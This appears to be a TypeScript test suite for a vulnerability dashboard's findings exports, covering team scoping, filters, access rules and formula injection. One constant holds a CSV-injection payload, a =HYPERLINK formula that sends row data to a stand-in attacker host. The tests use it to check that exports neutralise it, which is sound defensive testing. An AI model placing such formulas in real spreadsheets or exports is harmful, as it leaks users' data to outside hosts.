import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { sharedDataPath } from '@vmdash/testing';
import type { Browser } from './support/dashboard-system';
import { startWorkflowSystem, TEAM_A, TEAM_B, type FindingJson, type PageJson, type WorkflowSystem } from './support/workflow-system';

/**
 * An owner cell an operator pasted into the asset inventory from a spreadsheet: a formula that would send the row's
 * data to another site when the export is opened (OWASP, "CSV Injection").
 */
const EVIL_OWNER = '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")';
/** The inventory host of TEAM_A whose owner is EVIL_OWNER. */
const EVIL_HOST = 'qa3app01';

/** The shared asset inventory with EVIL_HOST's owner replaced (a copy in a temporary folder, never in the repository). */
function inventoryWithFormulaOwner(): string {
  const lines = readFileSync(sharedDataPath('inventory/asset-inventory.csv'), 'utf8').split('\n');
  const changed = lines.map((line) => {
    const [hostname, ip, , team, ...rest] = line.split(',');
    return hostname === EVIL_HOST ? [hostname, ip, `"${EVIL_OWNER.replace(/"/g, '""')}"`, team, ...rest].join(',') : line;
  });
  const path = join(mkdtempSync(join(tmpdir(), 'vmdash-exports-')), 'asset-inventory.csv');
  writeFileSync(path, changed.join('\n'));
  return path;
}

type CsvRecord = Record<string, string>;

async function csvExport(browser: Browser, query = ''): Promise<{ status: number; records: CsvRecord[]; disposition: string | null }> {
  const answer = await browser.request('GET', `/api/exports/findings.csv${query}`);
  const records = answer.status === 200 ? (parse(answer.text, { bom: true, columns: true }) as CsvRecord[]) : [];
  return { status: answer.status, records, disposition: answer.headers.get('content-disposition') };
}

/** Black-box: the findings exports through the gateway on the real exports (issue 11, "Exports"). */
describe('findings exports on real scanner exports', () => {
  let world: WorkflowSystem;
  let alice: Browser;
  let bob: Browser;
  let teamAFindings: FindingJson[];

  beforeAll(async () => {
    world = await startWorkflowSystem({ sources: { inventory: inventoryWithFormulaOwner() } });
    alice = (await world.signedIn('Standard_User', [TEAM_A])).browser;
    bob = (await world.signedIn('Standard_User', [TEAM_B])).browser;
    teamAFindings = ((await alice.request('GET', '/api/findings?page_size=200')).body as PageJson<FindingJson>).items;
  });
  afterAll(async () => {
    await world?.stop();
  });

  it("when a user exports findings as CSV, then the file holds exactly the rows GET /api/findings lists, in its order, and none of another team's", async () => {
    const { status, records, disposition } = await csvExport(alice);
    expect(status).toBe(200);
    expect(disposition).toMatch(/^attachment; filename=findings-\d{4}-\d{2}-\d{2}\.csv$/);
    const total = ((await alice.request('GET', '/api/findings?page_size=1')).body as PageJson<FindingJson>).total;
    expect(records).toHaveLength(total);
    expect(records.slice(0, teamAFindings.length).map((record) => Number(record.active_host_findings_id))).toEqual(teamAFindings.map((finding) => finding.active_host_findings_id));
    expect(records.every((record) => record.bu_team === TEAM_A)).toBe(true);
    const bobs = await csvExport(bob);
    expect(bobs.records.length).toBeGreaterThan(0);
    expect(bobs.records.every((record) => record.bu_team === TEAM_B)).toBe(true);
    const aliceIds = new Set(records.map((record) => record.active_host_findings_id));
    expect(bobs.records.some((record) => aliceIds.has(record.active_host_findings_id))).toBe(false);
  });

  it('when the export is filtered, then every row passes the filter of GET /api/findings', async () => {
    const { records } = await csvExport(alice, '?severity=high&sort=first_seen');
    const listed = ((await alice.request('GET', '/api/findings?severity=high&sort=first_seen&page_size=200')).body as PageJson<FindingJson>).items;
    expect(records.map((record) => Number(record.active_host_findings_id))).toEqual(listed.map((finding) => finding.active_host_findings_id));
    expect(records.every((record) => record.severity === 'high')).toBe(true);
  });

  it('when an owner in the inventory is a =HYPERLINK formula, then both exports carry it as inert text', async () => {
    const { records } = await csvExport(alice, `?hostname=${EVIL_HOST}`);
    expect(records.length).toBeGreaterThan(0);
    expect(records.every((record) => record.owner === `'${EVIL_OWNER}`)).toBe(true);
    const xlsx = await fetch(`${world.system.url}/api/exports/findings.xlsx?hostname=${EVIL_HOST}`, { headers: { cookie: [...alice.cookies].map(([name, value]) => `${name}=${value}`).join('; ') } });
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const ownerColumn = header.indexOf('owner') + 1;
    expect(sheet.rowCount).toBe(records.length + 1);
    for (let row = 2; row <= sheet.rowCount; row++) {
      const cell = sheet.getRow(row).getCell(ownerColumn);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(`'${EVIL_OWNER}`);
    }
  });

  it('when a Read_Only user exports, then it is 403 naming the groups required', async () => {
    const reader = (await world.signedIn('Read_Only', [TEAM_A])).browser;
    for (const format of ['csv', 'xlsx']) {
      expect(await reader.request('GET', `/api/exports/findings.${format}`)).toMatchObject({
        status: 403,
        body: { error: 'Insufficient permissions', required: ['Admin', 'Standard_User'], current: 'Read_Only' },
      });
    }
  });

  it('when the query is malformed or asks for a page, then it is a 400', async () => {
    expect((await alice.request('GET', '/api/exports/findings.csv?severity=urgent')).status).toBe(400);
    expect((await alice.request('GET', '/api/exports/findings.xlsx?page=2')).status).toBe(400);
  });
});
